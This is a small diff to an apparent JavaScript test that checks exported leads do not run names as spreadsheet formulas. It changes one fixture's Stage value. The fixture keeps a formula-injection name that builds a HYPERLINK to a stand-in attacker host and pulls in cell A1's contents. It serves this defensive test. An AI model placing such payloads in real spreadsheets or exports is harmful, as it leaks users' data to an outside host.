@@ -53,7 +53,7 @@ test('leads come as the list shows them, and no name runs as a formula', async (
     Name: `'=HYPERLINK("http://evil.example","Dana, "&A1)`,
     Contact: '(602) 555-0177',
     About: '2021 Ford F-150',
-    Stage: 'new',
+    Stage: 'booked',
     Asked: '2026-11-21 12:00',
   });
   const messages = await rowsOf(exportLeads(desk, { ...everything, kind: 'message' }));
